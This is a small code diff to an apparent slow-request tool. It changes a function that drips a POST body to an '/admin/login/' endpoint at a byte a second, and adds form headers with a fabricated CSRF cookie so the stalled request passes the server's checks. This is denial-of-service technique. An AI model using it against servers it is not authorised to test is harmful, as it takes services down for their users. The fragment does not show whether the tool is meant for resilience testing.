@@ -125,7 +125,8 @@ def ask_marks(target: Target) -> None:
 
 def send_slow_bodies(target: Target) -> None:
     """No account: bodies of the admin's login, a byte a second."""
-    _drip(target, request_line("POST", "/admin/login/", "Content-Length: 1000") + "\r\n")
+    form = ("Content-Type: application/x-www-form-urlencoded", f"Cookie: csrftoken={'a' * 32}")
+    _drip(target, request_line("POST", "/admin/login/", *form, "Content-Length: 1000") + "\r\n")
 
 
 def send_slow_questions(target: Target) -> None:
